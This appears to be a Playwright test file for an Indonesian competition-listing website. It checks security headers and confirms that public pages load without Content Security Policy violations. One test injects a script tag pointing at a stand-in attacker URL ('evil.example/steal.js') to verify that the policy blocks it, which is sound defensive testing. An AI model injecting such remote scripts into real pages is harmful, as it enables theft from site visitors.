import { expect, test } from '@playwright/test';
import { homeOrder, readMainData, slugify } from './support/data';
import { watchCsp } from './support/csp';

test('every answer carries the security headers; HSTS only behind a proxy that says https', async ({ request }) => {
  for (const path of ['/', '/api/competitions', '/login', '/sitemap.xml']) {
    const h = (await request.get(path)).headers();
    expect(h['content-security-policy'], path).toContain("default-src 'self'");
    expect(h['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(h['content-security-policy']).toContain("object-src 'none'");
    expect(h['content-security-policy']).not.toContain('nonce-');
    expect(h['cross-origin-opener-policy']).toBe('same-origin');
    expect(h['x-content-type-options']).toBe('nosniff');
    expect(h['x-frame-options']).toBe('DENY');
    expect(h['referrer-policy']).toBe('strict-origin-when-cross-origin');
    expect(h['permissions-policy']).toBe('camera=(), microphone=(), geolocation=()');
    expect(h['strict-transport-security']).toBeUndefined();
  }
  const tls = (await request.get('/', { headers: { 'x-forwarded-proto': 'https' } })).headers();
  expect(tls['strict-transport-security']).toBe('max-age=31536000');
});

test('public pages run under the policy: hydrated, interactive, nothing blocked', async ({ page }) => {
  const violations = await watchCsp(page);
  const first = homeOrder(readMainData())[0]!;
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1, name: 'Temukan Lomba Impianmu' })).toBeVisible();
  // The cookie banner is a client component: clicking it works only when the page's scripts ran.
  await page.getByRole('button', { name: 'Tolak Semua' }).click();
  await expect(page.getByRole('button', { name: 'Tolak Semua' })).toBeHidden();
  await page.goto(`/berita/${first.id}-${slugify(first.title)}`);
  await expect(page.getByRole('heading', { level: 1, name: first.title })).toBeVisible();
  await page.goto(`/search?q=${encodeURIComponent(first.title.split(' ')[0]!)}`);
  await expect(page.getByText(/lomba ditemukan\./)).toBeVisible();
  for (const path of ['/tags', '/contact', '/login', '/about']) {
    await page.goto(path);
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
  }
  expect(violations).toEqual([]);
});

test('the policy blocks a script from another host, and the watcher sees it', async ({ page }) => {
  const violations = await watchCsp(page);
  await page.goto('/about');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/steal.js';
    document.head.append(script);
  });
  await expect.poll(() => violations.length).toBeGreaterThan(0);
  expect(violations.join('\n')).toContain('evil.example');
});
